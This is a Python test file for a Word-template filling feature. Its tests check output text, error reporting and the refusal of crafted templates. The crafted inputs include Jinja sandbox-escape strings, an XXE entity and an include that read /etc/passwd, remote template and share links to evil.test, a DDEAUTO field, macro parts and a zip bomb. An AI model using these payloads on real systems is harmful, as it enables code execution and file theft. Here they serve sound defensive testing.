"""Filling Word templates: what comes out, what is said of a faulty template, and that a crafted one can do no harm."""

from __future__ import annotations

import subprocess
import sys
import time
import unicodedata
import zipfile
from base64 import b64decode
from io import BytesIO

import pytest
from docx import Document
from word_papers import letter, lines_of, packed, parts_of, text_of

from tracker.core.problems import RefusedError
from tracker.export import papers
from tracker.export.paper_samples import samples_of
from tracker.export.papers import check_template, render, render_all
from tracker.filling.fill import fill
from tracker.filling.parts import RefusedTemplateError, look_through

PICTURE = b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
HOSTILE = "& < > \" ' ` {{ period }} {% if %} {_{ }} “q” \u202e]]>"


def said(kind: str, template: bytes) -> list[tuple[str, str]]:
    return [(problem.code, problem.value or "") for problem in check_template(kind, template)]


def test_names_stand_letter_for_letter_composed_and_in_one_line():
    decomposed = unicodedata.normalize("NFD", "Đắk Lắk, xã Quảng Ngàn")
    name = f"{HOSTILE} {decomposed}\x07\n\tcuối"
    paper = render(
        letter("[{{ period }}] {% for one in grounds %}<{{ one }}>{% endfor %}"), {"period": name, "grounds": [name]}
    )
    shown = f"{HOSTILE} Đắk Lắk, xã Quảng Ngàn  cuối"
    assert lines_of(paper)[0] == f"[{shown}] <{shown}>"


def test_a_new_line_begins_only_where_the_context_says_so():
    paper = render(letter("{{ signatory_role|upper }}"), {"signatory_role": f"KT. Chủ tịch{papers.LINE_BREAK}Phó Chủ\ntịch"})
    assert Document(BytesIO(paper)).paragraphs[0].text == "KT. CHỦ TỊCH\nPHÓ CHỦ TỊCH"


def test_the_same_fields_give_the_same_bytes_one_by_one_or_together():
    template, fields = letter("{{ period }}"), [{"period": "một"}, {"period": "hai"}]
    together = render_all(template, fields)
    assert [render(template, one) for one in fields] == together
    assert together[0] != together[1]
    with zipfile.ZipFile(BytesIO(together[0])) as archive:
        assert {part.date_time for part in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}


def test_every_unknown_field_is_named_in_full():
    template = letter("{{ perid }} {{ period }}", "{% for one in awards %}{{ one.awrad }} {{ one.award }}{% endfor %}")
    assert said("proposal", template) == [("template_unknown_field", "perid"), ("template_unknown_field", "awards[].awrad")]
    with pytest.raises(RefusedError, match="template_unknown_field"):
        render(template, samples_of("proposal")[0])


def test_a_faulty_tag_is_shown_with_the_paragraph_it_stands_in():
    problems = check_template("proposal", letter("Kính gửi", "Căn cứ {{ period period }}", "hết"))
    assert [(problem.code, problem.args["where"]) for problem in problems] == [
        ("template_syntax", "Căn cứ {{ period period }}")
    ]


ATTACKS = {
    "attributes": ("{{ ''.__class__.__mro__[1].__subclasses__() }}", "template_forbidden"),
    "methods": ("{{ period.format(1) }}", "template_forbidden"),
    "itself": ("{{ self.__init__.__globals__ }}", "template_forbidden"),
    "lists": ("{{ grounds.append(1) }}", "template_forbidden"),
    "globals": ("{{ cycler }}", "template_unknown_field"),
    "globals' insides": ("{{ cycler.__init__.__globals__.os }}", "template_forbidden"),
    "filters": ("{{ period|attr('__class__') }}", "template_syntax"),
    "safe": ("{{ period|safe }}", "template_syntax"),
    "powers": ("{{ 9999999**9999999 }}", "template_forbidden"),
    "long texts": ("{{ 'a'*99999999999 }}", "template_forbidden"),
    "ranges": ("{% for i in range(999999999) %}{% endfor %}", "template_forbidden"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_a_template_reaches_nothing_but_its_fields(name):
    tag, code = ATTACKS[name]
    with pytest.raises(RefusedTemplateError, match=code):
        fill(letter(tag), samples_of("proposal")[0])


@pytest.mark.parametrize(
    ("tag", "code"),
    [
        ("{% include '/etc/passwd' %}", "template_failed"),
        ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "template_too_large"),
    ],
)
def test_what_the_library_stumbles_over_is_the_templates_fault(tag, code):
    with pytest.raises(RefusedError, match=code):
        render(letter(tag), {})


def test_nested_loops_are_stopped(monkeypatch):
    monkeypatch.setattr(papers, "CPU_SECONDS", 1)
    monkeypatch.setattr(papers, "CPU_SECONDS_EACH", 0)
    depth = 9
    begins, ends = "{% for i in 'aaaaaaaaaaaaaaaaaaaaaaaa' %}" * depth, "{% endfor %}" * depth
    began = time.monotonic()
    with pytest.raises(RefusedError, match="template_too_slow"):
        render(letter(begins + ends), {})
    assert time.monotonic() - began < 8


def test_once_shut_off_the_process_opens_no_file():
    tried = (
        "from tracker import confined\nconfined.shut_off()\ntry:\n open('/etc/hostname')\nexcept OSError:\n print('shut')"
    )
    assert subprocess.run([sys.executable, "-c", tried], capture_output=True, text=True, check=True).stdout == "shut\n"


def relationship(kind: str, target: str, mode: str = ' TargetMode="External"') -> str:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    inner = f'<Relationship Id="rId99" Type="{office}/{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'


def field(*runs: str) -> str:
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    texts = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in runs)
    begin, end = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
    return f"<w:document {w}><w:body><w:p>{begin}{texts}{end}</w:p></w:body></w:document>"


SETTINGS, BODY = "word___rels__settings_dot_xml_dot_rels", "word__document_dot_xml"
CONTENTS = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" '
)
CONTENTS += 'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
CRAFTED = {
    "remote template": ({SETTINGS: relationship("attachedTemplate", "https://evil.test/a.dotm")}, "template_external"),
    "local template": ({SETTINGS: relationship("attachedTemplate", "a.dotm", "")}, "template_part"),
    "share": ({SETTINGS: relationship("image", "\\\\evil.test\\a.png", "")}, "template_external"),
    "linked picture": ({BODY: field(" INCLUDE", "PICTURE ", '"https://evil.test/a.png"')}, "template_field"),
    "linked text": ({BODY: field(' INCLUDETEXT "/etc/passwd" ')}, "template_field"),
    "programs": ({BODY: field(" DDEAUTO cmd ")}, "template_field"),
    "object": ({"word__embeddings__a_dot_bin": "x"}, "template_part"),
    "macro": ({"word__vbaProject_dot_bin": "x"}, "template_part"),
    "macro type": ({"[Content_Types]_dot_xml": CONTENTS}, "template_part"),
    "other document": ({"word__a_dot_html": "<p>x</p>"}, "template_part"),
    "entities": ({BODY: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'}, "template_doctype"),
}


@pytest.mark.parametrize("name", CRAFTED)
def test_a_file_that_is_more_than_text_tables_and_pictures_is_refused(name):
    parts, code = CRAFTED[name]
    with pytest.raises(RefusedTemplateError, match=code):
        look_through(letter("x", **parts))


def test_a_field_made_by_the_template_itself_is_refused_too():
    made = field(" {{ 'INCLUDE' ~ 'PICTURE' }} ")
    with pytest.raises(RefusedError, match="template_field"):
        render(letter(**{BODY: made}), {})


def test_a_template_with_a_picture_in_its_head_is_filled():
    made, document = BytesIO(), Document()
    document.sections[0].header.paragraphs[0].add_run().add_picture(BytesIO(PICTURE))
    document.add_paragraph("{{ period }}")
    document.save(made)
    paper = render(made.getvalue(), {"period": "năm 2026"})
    assert lines_of(paper)[0] == "năm 2026"
    assert any(content == PICTURE for content in parts_of(paper).values())


def test_a_link_to_a_web_page_is_no_harm():
    look_through(letter("x", **{SETTINGS: relationship("hyperlink", "mailto:vanphong@tinh.test")}))


def test_files_that_unpack_too_large_or_are_none_are_refused():
    bomb = packed({**parts_of(letter("x")), "word/media/a.png": bytes(50_000_000)})
    with pytest.raises(RefusedTemplateError, match="template_too_large"):
        look_through(bomb)
    for nothing in (b"", b"PK\x03\x04", b"%PDF-1.7", packed({"a.xml": b"<a/>"})):
        with pytest.raises(RefusedTemplateError, match="template_not_docx"):
            look_through(nothing)


def test_a_template_beyond_the_limit_is_not_even_looked_at():
    assert said("proposal", bytes(papers.MAX_TEMPLATE + 1)) == [("template_too_large", "")]


def test_what_a_template_says_outside_the_fields_stays():
    assert "Độc lập - Tự do - Hạnh phúc" in text_of(render(letter("Độc lập - Tự do - Hạnh phúc"), {}))
